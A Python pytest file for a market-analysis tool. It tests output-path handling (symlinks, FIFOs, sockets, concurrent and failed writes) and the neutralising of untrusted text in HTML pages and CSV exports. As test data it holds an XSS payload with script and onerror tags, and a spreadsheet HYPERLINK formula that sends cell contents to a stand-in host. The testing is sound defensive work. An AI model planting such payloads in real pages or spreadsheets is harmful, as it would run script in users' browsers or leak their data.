"""Hostile output paths and hostile text in what aishock writes (issue 15, items 9-12).

Paths (engine.outputs.write_atomic and check_outputs): a symlink is written through and stays
a link; a FIFO or /dev/stdout is written directly; a folder or a socket is refused in one
line; a parquet file named .html, or two outputs on one file, are refused before computing;
concurrent writers of one path all succeed; a failed write leaves no temporary file.

Text: a label, a name or a basket field holding markup is escaped in every HTML page (the
QuantStats tearsheet included, which also refers to no other site), and a CSV text cell
that a spreadsheet would run as a formula is written with a leading single quote."""

from __future__ import annotations

import csv
import errno
import html
import io
import json
import os
import socket
import stat
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from cli_errors import one_line_error
from raw_market import EVENT
from test_generalize_page import synthetic
from test_pages import sweep_result

from aishock.cli import main
from engine.errors import AishockError
from engine.outputs import check_outputs, csv_safe, write_atomic

HOSTILE = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
RAW = ("<script>window.__pwned", "<img src=x")  # what must never be in a page as markup
FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"click")'
POWER = ["event", EVENT, "--universe", "power"]  # a small event study: four names, about 1 s


@pytest.fixture
def no_study(monkeypatch):
    """Fails the test if an event study starts."""
    import engine.events.study as study

    monkeypatch.setattr(study, "study", lambda *a, **k: pytest.fail("the study started"))


@pytest.fixture(scope="module")
def membership(tmp_path_factory) -> Path:
    """A membership CSV whose text fields are formulas and markup (a basket of five names)."""
    path = tmp_path_factory.mktemp("members") / "hostile.csv"
    rows = [
        ("NVDA", FORMULA, HOSTILE),
        ("AMD", "Advanced Micro Devices", "+1+1"),
        ("VST", "@SUM(A1:A9)", HOSTILE),
        ("CEG", "-2+3", "Utilities"),
        ("MU", "Micron", "Information Technology"),
    ]
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["Symbol", "Security", "GICS Sector", "GICS Sub-Industry"])
        writer.writerows((t, sec, sector, "Semiconductors") for t, sec, sector in rows)
    return path


@pytest.fixture(scope="module")
def study(cfg, membership):
    from engine.events import study as event
    from engine.events.members import load_universe

    _, members, prices = load_universe(str(membership), cfg, "SPY", event.BENCHMARKS)
    return event.study(prices.close, members, EVENT)


def no_temporary_files(folder: Path) -> None:
    assert [p.name for p in folder.iterdir() if p.name.endswith(".tmp")] == []


# --- where a write goes -------------------------------------------------------------------------


def test_a_symlink_is_written_through_and_stays_a_link(out_dir, capsys, tmp_path):
    from reports.manifest import write_manifest

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "kept.csv").write_text("old")
    link = tmp_path / "power.csv"
    link.symlink_to(elsewhere / "kept.csv")
    assert main([*POWER, "--csv", str(link)]) == 0
    assert link.is_symlink() and os.readlink(link) == str(elsewhere / "kept.csv")
    assert (elsewhere / "kept.csv").read_text().startswith("ticker,security,sector")
    no_temporary_files(tmp_path)
    no_temporary_files(elsewhere)

    report = tmp_path / "page.html"
    (elsewhere / "m.json").write_text("{}")
    (tmp_path / "page.manifest.json").symlink_to(elsewhere / "m.json")
    write_manifest(report, {"kind": "test"})
    assert (tmp_path / "page.manifest.json").is_symlink()
    assert json.loads((elsewhere / "m.json").read_text()) == {"kind": "test"}


def test_a_fifo_is_written_directly(out_dir, capsys, tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    got: list[str] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_text()), daemon=True)
    reader.start()
    assert main([*POWER, "--csv", str(fifo)]) == 0
    reader.join(timeout=60)
    assert got, "nothing was written into the FIFO"
    rows = list(csv.DictReader(io.StringIO(got[0])))
    assert [r["ticker"] for r in rows] == ["VST", "CEG", "NRG", "TLN"]
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)  # still a FIFO, not a file put in its place
    no_temporary_files(tmp_path)


@pytest.mark.parametrize("stdout", ["pipe", "file"])
def test_csv_to_dev_stdout_prints_it(out_dir, tmp_path, stdout):
    """`--csv /dev/stdout` prints the CSV, then the JSON, whether stdout is a pipe or a file
    it is redirected to (opened anew, /dev/stdout would start at the file's offset 0 and the
    JSON would overwrite the CSV). Tested through a link to /dev/stdout, which follows the
    same rule: a test of the literal path, run against a writer that replaces its target,
    would replace the machine's /dev/stdout."""
    link = tmp_path / "stdout.csv"
    link.symlink_to("/dev/stdout")
    exe = Path(sys.executable).parent / "aishock"
    argv = [str(exe), *POWER, "--csv", str(link), "--json"]
    env = {**os.environ, "AISHOCK_REPORTS": str(out_dir)}
    if stdout == "pipe":
        proc = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=300)
        printed = proc.stdout
    else:
        with (tmp_path / "printed.txt").open("w") as f:
            proc = subprocess.run(argv, env=env, stdout=f, stderr=subprocess.PIPE, text=True, timeout=300)
        printed = (tmp_path / "printed.txt").read_text()
    assert proc.returncode == 0, proc.stderr
    text, brace, rest = printed.partition("\n{")
    rows = list(csv.DictReader(io.StringIO(text + "\n")))
    assert [r["ticker"] for r in rows] == ["VST", "CEG", "NRG", "TLN"]
    assert json.loads(brace.strip() + rest)["csv"] == str(link)
    assert link.is_symlink() and os.readlink(link) == "/dev/stdout"


def test_a_folder_or_a_socket_is_refused_in_one_line(capsys, tmp_path, no_study):
    from reports.manifest import write_manifest

    with pytest.raises(AishockError, match="it is a folder, not a file"):
        write_atomic(tmp_path, lambda f: f.write_text("x"))
    sockets = [socket.socket(socket.AF_UNIX) for _ in range(2)]
    try:
        sockets[0].bind(str(tmp_path / "s.manifest.json"))
        with pytest.raises(AishockError, match="it is a socket, not a file"):
            write_manifest(tmp_path / "s.html", {"kind": "test"})
        assert stat.S_ISSOCK(os.stat(tmp_path / "s.manifest.json").st_mode)
        sockets[1].bind(str(tmp_path / "s.csv"))
        err = one_line_error(capsys, [*POWER, "--csv", str(tmp_path / "s.csv")])
        assert f"--csv {tmp_path / 's.csv'} is a socket, not a file" in err
        assert stat.S_ISSOCK(os.stat(tmp_path / "s.csv").st_mode)
    finally:
        for s in sockets:
            s.close()
    no_temporary_files(tmp_path)


def test_a_parquet_or_csv_named_html_is_refused_before_computing(
    capsys, tmp_path, out_dir, no_sweep, no_study
):
    err = one_line_error(
        capsys, ["sweep", "oversold_rebound", "--grid", "top_k=3,5", "--out", str(tmp_path / "r.html")]
    )
    assert f"--out {tmp_path / 'r.html'} ends in .html but is written as parquet" in err
    err = one_line_error(capsys, [*POWER, "--csv", str(tmp_path / "members.HTML")])
    assert "ends in .html but is written as csv; give a name ending in .csv" in err
    # a link named .parquet to a page is no better
    (tmp_path / "link.parquet").symlink_to(tmp_path / "page.html")
    err = one_line_error(
        capsys, ["sweep", "oversold_rebound", "--grid", "top_k=3,5", "--out", str(tmp_path / "link.parquet")]
    )
    assert "(a link to" in err and "ends in .html" in err
    assert list(tmp_path.glob("*.html")) == []


def test_two_outputs_on_one_file_are_refused(capsys, tmp_path, out_dir, no_sweep):
    """`sweep --out res.dat` writes its page to res.html: here a link to res.dat, so the page
    would overwrite the results."""
    (tmp_path / "res.html").symlink_to(tmp_path / "res.dat")
    err = one_line_error(
        capsys, ["sweep", "oversold_rebound", "--grid", "top_k=3,5", "--out", str(tmp_path / "res.dat")]
    )
    assert f"--out and the sweep page both write {tmp_path / 'res.dat'}" in err
    with pytest.raises(AishockError, match="--a and --b both write"):
        check_outputs(("--a", tmp_path / "x.csv", "csv"), ("--b", tmp_path / "x.csv", "csv"))
    (tmp_path / "y.csv").symlink_to(tmp_path / "x.csv")
    with pytest.raises(AishockError, match="--a and --b both write"):
        check_outputs(("--a", tmp_path / "x.csv", "csv"), ("--b", tmp_path / "y.csv", "csv"))
    check_outputs(
        ("--a", tmp_path / "x.csv", "csv"), ("--b", None, "csv"), ("--c", tmp_path / "z.csv", "csv")
    )


def _writers(study, folder: Path):
    """(name, write(), check(path)) of writers of one file in `folder`."""
    from reports.event_page import write_event_page
    from reports.manifest import write_manifest

    report = folder / "page.html"
    info = {"kind": "test", "values": list(range(3000))}
    return {
        "manifest": (
            lambda: write_manifest(report, info),
            folder / "page.manifest.json",
            lambda text: json.loads(text) == info,
        ),
        "event page": (
            lambda: write_event_page(report, study, "label"),
            report,
            lambda text: text.rstrip().endswith("</html>"),
        ),
    }


@pytest.mark.parametrize("writer", ["manifest", "event page"])
def test_concurrent_writers_of_one_file_all_succeed(study, tmp_path, writer):
    """4 threads write the same file 12 times each, starting each round together: with a
    fixed temporary name most rounds failed (one writer renames the file another is still
    filling); with unique names every write succeeds and no temporary file is left."""
    write, path, complete = _writers(study, tmp_path)[writer]
    failures: list[str] = []
    start = threading.Barrier(4)

    def worker():
        for _ in range(12):
            start.wait()
            try:
                write()
            except Exception as e:  # any failure is the finding
                failures.append(f"{type(e).__name__}: {e}")

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert failures == []
    assert complete(path.read_text(encoding="utf-8"))
    no_temporary_files(tmp_path)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o666 & ~_umask()  # not mkstemp's 0600


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


@pytest.mark.parametrize("writer", ["manifest", "event page"])
def test_a_failed_write_leaves_no_temporary_file(study, tmp_path, monkeypatch, writer):
    """The disk fills half-way through: the error propagates, the previous file is intact and
    nothing else is left in the folder."""
    write, path, _ = _writers(study, tmp_path)[writer]
    path.write_text("previous")
    real = Path.write_text

    def half_then_full(self, text, *args, **kwargs):
        real(self, text[: len(text) // 2], *args, **kwargs)
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_text", half_then_full)
    with pytest.raises(OSError, match="No space left"):
        write()
    monkeypatch.undo()
    assert path.read_text() == "previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == [path.name]


# --- untrusted text in pages --------------------------------------------------------------------


@pytest.fixture(scope="module")
def tearsheet(tmp_path_factory) -> str:
    from reports.tearsheet import write_tearsheet

    rng = np.random.default_rng(3)
    dates = pd.bdate_range("2024-01-01", "2025-06-30")
    bench = pd.Series(rng.normal(0, 0.01, len(dates)), dates)
    path = tmp_path_factory.mktemp("ts") / "t.html"
    write_tearsheet(bench + rng.normal(0, 0.002, len(dates)), path, HOSTILE, bench, "SPY")
    return path.read_text(encoding="utf-8")


def test_the_tearsheet_escapes_its_label(tearsheet):
    assert not [raw for raw in RAW if raw in tearsheet]
    assert f"<h1>{html.escape(HOSTILE)} (Compounded)" in tearsheet


def test_the_tearsheet_refers_to_no_other_site(tearsheet):
    """No favicon, link, namespace or metadata URL: nothing a browser could fetch."""
    lower = tearsheet.lower()
    assert "http://" not in lower and "https://" not in lower
    assert "Content-Security-Policy" in tearsheet and "default-src 'none'" in tearsheet


def _pages(kind: str, folder: Path, study) -> str:
    """The text of a page of `kind` whose labels, names and basket fields are HOSTILE."""
    if kind == "index":
        from reports.charts import equity_chart
        from reports.index_page import write_index

        idx = pd.bdate_range("2025-01-02", "2025-03-31")
        equity = pd.DataFrame({HOSTILE: np.linspace(1, 1.1, len(idx))}, index=idx)
        table = pd.DataFrame(
            {(HOSTILE, m): [0.1] for m in ("total_return", "sharpe", "max_drawdown", "volatility")},
            index=[HOSTILE],
        )
        table.columns.names = ["window", "metric"]
        windows = [(HOSTILE, "2025-01-02", "2025-03-31")]
        path = write_index(
            folder / "index.html", HOSTILE, HOSTILE, table, {HOSTILE: f"{HOSTILE}.html"}, windows,
            equity_chart(equity, {}), [HOSTILE], events={HOSTILE: f"{HOSTILE}.html"},
            generalize={HOSTILE: f"{HOSTILE}.html"},
        )  # fmt: skip
    elif kind == "event":
        from reports.event_page import write_event_page

        path = write_event_page(folder / "event.html", study, HOSTILE)
    elif kind == "sweep":
        from reports.sweep_page import write_sweep_page

        result = sweep_result(["min_drop", "hold_days"])
        result.strategy, result.warnings = HOSTILE, [HOSTILE]
        result.table["universe"] = HOSTILE
        path = write_sweep_page(folder / "sweep.html", result)
    else:
        from reports import generalize_page

        g = synthetic(groups=(HOSTILE, "Power", "Cloud"))
        g.settings["universe_label"] = HOSTILE
        g.settings["params"] = {"universe": HOSTILE}
        path = generalize_page.write(g, folder / "generalize.html")
    return path.read_text(encoding="utf-8")


@pytest.mark.parametrize("kind", ["index", "event", "sweep", "generalize"])
def test_every_page_escapes_labels_names_and_basket_fields(kind, tmp_path, study):
    text = _pages(kind, tmp_path, study)
    assert not [raw for raw in RAW if raw in text]
    assert html.escape(HOSTILE, quote=False) in text or html.escape(HOSTILE) in text


# --- CSV cells ----------------------------------------------------------------------------------


def test_csv_safe_quotes_text_that_starts_a_formula_and_leaves_numbers():
    frame = pd.DataFrame(
        {
            "name": ["=1+2", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "plain", "a=b", None],
            "value": [-0.5, 1.0, -2.0, 0.0, np.nan, 3.0, -1e-9, 4.0, 5.0],
            "count": list(range(-4, 5)),
        },
        index=pd.Index(["=i", "j", "k", "l", "m", "n", "o", "p", "q"], name="@id"),
    )
    safe = csv_safe(frame)
    assert safe["name"].tolist()[:8] == ["'=1+2", "'+A1", "'-A1", "'@SUM(A1)", "'\tx", "'\rx", "plain", "a=b"]
    assert safe["name"].isna().tolist()[-1]
    assert safe.index.tolist()[0] == "'=i" and safe.index.name == "'@id"
    for column in ("value", "count"):  # numbers: the same values, the same type
        pd.testing.assert_series_equal(safe[column], frame[column].set_axis(safe.index))
    text = safe.to_csv(index=False)
    assert "\n'-A1,-2.0,-2\n" in text  # a negative number is written as a number
    assert frame["name"].tolist()[0] == "=1+2"  # the caller's frame is left as it was


def test_event_csv_neutralises_formula_cells(out_dir, capsys, tmp_path, membership):
    path = tmp_path / "members.csv"
    assert main(["event", EVENT, "--universe", str(membership), "--csv", str(path)]) == 0
    with path.open(newline="", encoding="utf-8") as f:
        rows = {r["ticker"]: r for r in csv.DictReader(f)}
    assert rows["NVDA"]["security"] == "'" + FORMULA
    assert rows["VST"]["security"] == "'@SUM(A1:A9)" and rows["CEG"]["security"] == "'-2+3"
    assert rows["AMD"]["sector"] == "'+1+1" and rows["MU"]["security"] == "Micron"
    falls = [r["event_return"] for r in rows.values() if r["event_return"].startswith("-")]
    assert falls and all(float(v) < 0 for v in falls)  # numbers: not quoted


def test_generalize_csv_neutralises_formula_cells(out_dir, capsys, tmp_path, monkeypatch):
    import engine.events.generalize as generalization

    groups = (FORMULA, "-Power", "@Cloud")
    monkeypatch.setattr(generalization, "generalize", lambda *a, **k: synthetic(groups=groups))
    path = tmp_path / "events.csv"
    assert main(["generalize", "oversold_rebound", "--csv", str(path), "--json", "--no-progress"]) == 0
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {r["group"] for r in rows} == {"'" + g for g in groups}
    negative = [r["excess_market"] for r in rows if r["excess_market"].startswith("-")]
    assert negative and all(float(v) < 0 for v in negative)
